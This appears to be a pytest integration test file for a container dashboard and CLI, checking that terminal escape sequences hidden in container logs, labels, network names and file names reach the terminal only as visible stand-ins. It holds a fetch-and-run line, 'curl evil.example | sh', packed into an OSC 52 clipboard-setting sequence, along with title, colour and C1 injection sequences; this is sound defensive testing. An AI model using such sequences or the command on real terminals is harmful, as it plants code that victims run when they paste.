"""Engine and file text never drives the terminal (issue 21, item 5).

A container's log line set the viewer's clipboard with OSC 52 (`curl evil.example | sh`), and
OSC 0 set the window title; names, labels and network names carried the same. Here a real
container, its labels and a real network carry OSC 52, OSC 0, a CSI colour and a C1 CSI; the
dashboard runs in a real pty and every byte it writes is kept: none of those sequences is in
them, while their visible stand-ins (␛…) are, so the text was shown. The CLI's messages (a
file name, a network name from `demo down`) are checked the same way.
"""

from __future__ import annotations

import base64
import subprocess
import uuid
from collections.abc import Iterator
from pathlib import Path

import docker
import pytest

from bench.private_engine import PrivateEngine
from tests.conftest import TEST_IMAGE
from tests.integration.terminal import SCRIPT, Terminal

pytestmark = [pytest.mark.slow, pytest.mark.docker]

PAYLOAD = base64.b64encode(b"curl evil.example | sh").decode()


def attacks(tag: str) -> dict[str, str]:
    """Each sequence, with the marker that makes it this test's own."""
    return {
        "clipboard": f"\x1b]52;c;{PAYLOAD}\x07",
        "title": f"\x1b]0;TITLE-{tag}\x07",
        "colour": f"\x1b[38;5;196mRED-{tag}",
        "c1": f"\u009b6nC1-{tag}",
    }


def assert_inert(raw: bytes, tag: str) -> None:
    """None of the sequences reached the terminal; their stand-ins did."""
    for name, sequence in attacks(tag).items():
        assert sequence.encode() not in raw, f"the {name} sequence reached the terminal"
    assert b"\x1b]52;" not in raw and b"\xc2\x9b" not in raw
    shown = raw.decode(errors="replace")
    assert f"␛]52;c;{PAYLOAD}␇" in shown and f"␛]0;TITLE-{tag}␇" in shown, shown[-3000:]


@pytest.fixture()
def hostile(docker_client: docker.DockerClient, test_labels: dict[str, str]) -> Iterator[dict]:
    tag = uuid.uuid4().hex[:8]
    seq = attacks(tag)
    line = "".join(seq.values())
    labels = {
        **test_labels,
        "com.docker.compose.project": f"p{seq['title']}",
        "com.docker.compose.service": f"s{seq['clipboard']}",
        f"note{seq['colour']}": seq["c1"],
    }
    container = docker_client.containers.run(
        TEST_IMAGE,
        ["sh", "-c", 'printf "%s\\n" "$LINE"; echo "end-$TAG"; sleep 600'],
        environment={"LINE": line, "TAG": tag},
        name=f"esc-{tag}",
        labels=labels,
        detach=True,
    )
    network = docker_client.networks.create(f"n{seq['title']}{seq['clipboard']}", labels=labels)
    try:
        yield {"tag": tag, "container": container, "network": network}
    finally:
        container.remove(force=True)
        network.remove()


def test_the_dashboard_in_a_pty_shows_escape_sequences_as_text(hostile: dict) -> None:
    tag, name = hostile["tag"], hostile["container"].name
    terminal = Terminal([str(SCRIPT)], rows=50, columns=200)
    try:
        terminal.expect(name, seconds=120)
        terminal.send("/")
        terminal.expect("filter: name, image")
        terminal.send(name)
        focused = terminal.mark()
        terminal.send("\r")  # enter gives the focus back to the table, whose keys show again
        terminal.expect("Sort", focused)
        mark = terminal.mark()
        terminal.send("j\r")  # under its compose project's header row; its detail: the labels
        terminal.expect("Labels", mark)
        terminal.expect(f"TITLE-{tag}", mark)
        mark = terminal.mark()
        terminal.send("l")  # the log view: the line itself
        terminal.expect(f"end-{tag}", mark, seconds=120)
        terminal.expect(f"RED-{tag}", mark)
        mark = terminal.mark()
        terminal.send("q")  # back to the detail (q, not escape: no escape-key delay to mind)
        terminal.send("i")  # the inspect view of the container
        terminal.expect(f"inspect container {name}", mark, seconds=120)
        mark = terminal.mark()
        terminal.send("qq")  # back to the detail, then the dashboard
        terminal.expect("Sort", mark)
        mark = terminal.mark()
        terminal.send("6")  # the networks tab: the network's name
        terminal.expect(f"TITLE-{tag}", mark, seconds=120)
        terminal.send("q")
        assert terminal.wait(120) == 0, terminal.text()[-2000:]
        assert_inert(terminal.raw(), tag)
    finally:
        terminal.kill()


def test_cli_messages_show_a_file_name_as_text(tmp_path: Path) -> None:
    tag = uuid.uuid4().hex[:8]
    seq = attacks(tag)
    missing = tmp_path / f"model{seq['clipboard']}{seq['title']}{seq['colour']}{seq['c1']}.tar.gz"
    result = subprocess.run(
        [str(SCRIPT), "verify", str(missing)], capture_output=True, timeout=120, check=False
    )
    assert result.returncode == 2 and result.stderr.count(b"\n") == 1, result.stderr
    assert_inert(result.stderr, tag)


@pytest.fixture(scope="module")
def private_engine() -> Iterator[PrivateEngine]:
    """A dockerd of this test's own: `demo down` removes every demo-labelled object it sees."""
    engine = PrivateEngine()
    try:
        engine.start()
        yield engine
    finally:
        engine.destroy()


def test_cli_messages_show_an_engine_name_as_text(private_engine: PrivateEngine) -> None:
    tag = uuid.uuid4().hex[:8]
    seq = attacks(tag)
    client = docker.DockerClient(base_url=private_engine.url)
    try:
        client.networks.create(
            f"n{seq['clipboard']}{seq['title']}", labels={"org.container-lab.demo": "1"}
        )
    finally:
        client.close()
    result = subprocess.run(
        [str(SCRIPT), "--host", private_engine.url, "demo", "down"],
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert b"removed" in result.stdout, result.stdout
    assert_inert(result.stdout, tag)
